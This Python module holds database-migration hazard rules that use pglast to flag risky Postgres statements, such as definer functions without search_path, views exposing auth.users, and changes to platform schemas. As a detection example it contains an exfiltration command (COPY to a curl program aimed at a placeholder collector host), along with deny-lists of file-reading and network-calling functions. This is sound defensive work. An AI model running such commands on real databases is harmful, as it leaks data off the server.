"""Rules about objects that let people around the checks: definer functions, views, platform schemas, the server."""

from collections.abc import Iterator

from pglast import ast
from pglast.enums import ObjectType

from ops import grammar
from ops.grammar import names
from ops.hazards.model import Act
from ops.hazards.model import Found
from ops.hazards.model import HazardClass
from ops.hazards.model import Level
from ops.hazards.model import rule
from ops.hazards.pending import Name
from ops.hazards.pending import Pending
from ops.hazards.pending import created_relation
from ops.masking import printable

# Schemas that the platform makes, changes and restores by itself.
_PLATFORM = {"auth", "storage", "vault", "realtime", "extensions", "graphql", "graphql_public", "pgbouncer"} | {
    *("pgsodium", "pgsodium_masks", "supabase_functions", "supabase_migrations", "net", "cron", "_realtime"),
    *("_analytics", "_supavisor"),
}
# Tables of the platform that projects are meant to put policies and triggers on.
_OPEN_TABLES = {
    Name("storage", "objects"),
    Name("storage", "buckets"),
    Name("realtime", "messages"),
    Name("auth", "users"),
}
_KEEPS_ROWS = {"auth", "vault", "supabase_migrations"}
_OF_TABLE = (ObjectType.OBJECT_POLICY, ObjectType.OBJECT_TRIGGER, ObjectType.OBJECT_RULE)


@rule(
    "definer-without-search-path",
    HazardClass.ACCESS,
    Level.CAUTION,
    on=(ast.CreateFunctionStmt, ast.AlterFunctionStmt),
    caught="create function f() returns int language sql security definer as 'select 1';",
    left_alone="create function f() returns int language sql security definer set search_path = '' as 'select 1';",
    safe_way="Add SET search_path = '' and write every name with its schema.",
)
def definer_without_search_path(act: Act, pending: Pending) -> Iterator[str | Found]:
    """It runs as its owner, and whoever calls it chooses which tables its names mean."""
    elements = act.node.actions if isinstance(act.node, ast.AlterFunctionStmt) else act.node.options
    is_definer = grammar.options(elements).get("security") is True
    fixed = any(
        isinstance(element.arg, ast.VariableSetStmt) and element.arg.name == "search_path" for element in elements or ()
    )
    if is_definer and not fixed:
        parts = act.node.func if isinstance(act.node, ast.AlterFunctionStmt) else act.node.funcname
        yield f"Function {pending.name_of_parts(names(parts))} runs as its owner without a search_path of its own."


@rule(
    "view-over-auth-users",
    HazardClass.ACCESS,
    Level.DANGER,
    on=(ast.ViewStmt, ast.CreateTableAsStmt),
    caught="create view members as select id, email from auth.users;",
    left_alone="create view members with (security_invoker = true) as select id from profiles;",
    safe_way="Copy the few columns that are needed into a table of your own, by a trigger.",
)
def view_over_auth_users(act: Act, pending: Pending) -> Iterator[str | Found]:
    """It shows e-mail addresses and more to everybody who may read the view."""
    relation = created_relation(act.node)
    for node in grammar.walk(act.node.query):
        if isinstance(node, ast.RangeVar) and (node.schemaname, node.relname) == ("auth", "users"):
            yield f"View or table {pending.name(relation)} shows rows of auth.users."
            return


@rule(
    "view-runs-as-owner",
    HazardClass.ACCESS,
    Level.CAUTION,
    on=(ast.ViewStmt,),
    caught="create view open_orders as select * from orders;",
    left_alone="create view open_orders with (security_invoker = on) as select * from orders;",
    safe_way="Add WITH (security_invoker = true).",
)
def view_runs_as_owner(act: Act, pending: Pending) -> Iterator[str | Found]:
    """Such a view passes the row-level security of its tables."""
    name = pending.name(act.node.view)
    invoker = grammar.options(act.node.options).get("security_invoker", False)
    if name.schema == "public" and act.node.view.relpersistence != "t" and not invoker:
        yield f"View {name} reads with its owner's rights, past row-level security."


@rule(
    "platform-schema",
    HazardClass.ACCESS,
    Level.DANGER,
    on=(
        *(ast.AlterTableStmt, ast.CreateStmt, ast.CreateTableAsStmt, ast.ViewStmt, ast.IndexStmt, ast.RenameStmt),
        *(ast.CreateFunctionStmt, ast.DropStmt, ast.CreateTrigStmt, ast.CreatePolicyStmt, ast.AlterPolicyStmt),
        *(ast.TruncateStmt, ast.InsertStmt, ast.UpdateStmt, ast.DeleteStmt, ast.MergeStmt, ast.RuleStmt),
    ),
    caught="alter table auth.users add column nickname text;",
    left_alone="create policy own on storage.objects for select using (owner = auth.uid());",
    safe_way="Keep to your own schemas; refer to the platform's tables by foreign keys and triggers.",
)
def platform_schema(act: Act, pending: Pending) -> Iterator[str | Found]:
    """The platform changes these schemas by itself, and its upgrades expect them as it left them."""
    node = act.node
    changes_rows = isinstance(node, ast.InsertStmt | ast.UpdateStmt | ast.DeleteStmt | ast.MergeStmt | ast.TruncateStmt)
    is_usual = isinstance(node, ast.CreatePolicyStmt | ast.AlterPolicyStmt | ast.CreateTrigStmt | ast.AlterTableStmt)
    for name in _touched(node, pending):
        if name.schema not in (_KEEPS_ROWS if changes_rows else _PLATFORM):
            continue
        on_open_table = name in _OPEN_TABLES and not changes_rows
        if on_open_table and isinstance(node, ast.CreatePolicyStmt) and name.schema != "auth":
            continue
        if on_open_table and (is_usual or _drops_of_table(node)) and not _adds_or_drops_columns(node):
            yield Found(f"Changes {name}, which is the platform's.", level=Level.CAUTION)
        else:
            yield f"Changes {name}, which is the platform's."


def _adds_or_drops_columns(node: ast.Node) -> bool:
    return isinstance(node, ast.AlterTableStmt) and any(
        isinstance(command.def_, ast.ColumnDef) or command.name for command in node.cmds or ()
    )


def _drops_of_table(node: ast.Node) -> bool:
    return isinstance(node, ast.DropStmt) and node.removeType in _OF_TABLE


def _touched(node: ast.Node, pending: Pending) -> Iterator[Name]:
    """The objects with a schema that a statement changes."""
    if isinstance(node, ast.DropStmt):
        for parts in node.objects or ():
            listed = names(parts)
            listed = listed[:-1] if node.removeType in _OF_TABLE else listed
            schema = Name(listed[-1], "") if node.removeType == ObjectType.OBJECT_SCHEMA and listed else None
            if listed:
                yield schema or pending.name_of_parts(listed)
    elif isinstance(node, ast.CreateFunctionStmt):
        yield pending.name_of_parts(names(node.funcname))
    elif isinstance(node, ast.TruncateStmt):
        yield from (pending.name(relation) for relation in node.relations or ())
    else:
        relation = created_relation(node) or getattr(node, "relation", None) or getattr(node, "table", None)
        if isinstance(relation, ast.RangeVar):
            yield pending.name(relation)


_REACHING_EXTENSIONS = {"plpython3u", "plperlu", "pltclu", "file_fdw", "dblink", "adminpack", "http"}
_REACHING_FUNCTIONS = {"pg_read_file", "pg_read_binary_file", "pg_ls_dir", "lo_import", "lo_export"} | {
    *("dblink", "dblink_exec", "dblink_connect", "http_get", "http_post", "http_put", "http_delete")
}


@rule(
    "reaches-outside",
    HazardClass.ACCESS,
    Level.DANGER,
    on=(ast.CopyStmt, ast.CreateExtensionStmt, ast.AlterSystemStmt, ast.SelectStmt, ast.LoadStmt),
    caught="copy orders to program 'curl https://collector.example';",
    left_alone="create extension if not exists pgcrypto;",
    safe_way="Do it outside migrations, where it is seen; a migration changes this database alone.",
)
def reaches_outside(act: Act, pending: Pending) -> Iterator[str | Found]:
    """Files and programs of the server, its settings, other databases, the network."""
    node = act.node
    if isinstance(node, ast.CopyStmt):
        if node.filename is not None:
            yield "Runs a program on the server." if node.is_program else "Reads or writes a file of the server."
    elif isinstance(node, ast.CreateExtensionStmt):
        if node.extname in _REACHING_EXTENSIONS:
            yield f"Extension {printable(node.extname)} reaches beyond this database."
    elif isinstance(node, ast.SelectStmt):
        yield from (f"Calls {called}, which reaches beyond this database." for called in _reaching_calls(node))
    else:
        yield "Changes the server itself."


def _reaching_calls(node: ast.SelectStmt) -> list[str]:
    called = set()
    for each in grammar.walk(node):
        if isinstance(each, ast.FuncCall):
            schema, name = ["", *names(each.funcname)][-2:]
            if name in _REACHING_FUNCTIONS or (schema == "net" and name.startswith("http_")):
                called.add(printable(f"{schema}.{name}".lstrip(".")))
    return sorted(called)
